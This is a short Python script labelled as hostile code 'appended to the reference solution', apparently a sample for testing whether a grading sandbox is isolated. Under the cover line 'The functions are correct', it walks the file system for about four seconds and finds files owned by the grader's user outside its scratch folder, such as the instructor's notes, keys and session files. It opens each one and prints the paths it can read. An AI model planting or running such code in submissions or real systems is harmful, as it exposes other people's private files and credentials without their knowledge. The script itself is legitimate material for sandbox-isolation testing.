# hostile: appended to the reference solution
"""Looks for everything that belongs to the user it runs as (under a non-root grader: the
instructor's own uid) outside its scratch folder, and reads what it can: the instructor's
notes, agents, session bus, keys. Prints each file it could read (after 4 s of searching).
The functions are correct."""

import os
import time

me = os.getuid()
scratch = os.getcwd()
readable = []
deadline = time.monotonic() + 4
for folder, dirs, files in os.walk("/"):
    too_deep = folder.count("/") > 5 or time.monotonic() > deadline
    if folder.startswith(("/proc", "/sys", "/usr/share", scratch)) or too_deep:
        dirs[:] = []
        continue
    for name in files:
        path = os.path.join(folder, name)
        try:
            info = os.lstat(path)
        except OSError:
            continue
        if info.st_uid != me:
            continue
        try:
            with open(path, "rb") as fh:
                fh.read(64)
            readable.append(path)
        except OSError:
            pass
print("OWNED", sorted(readable))
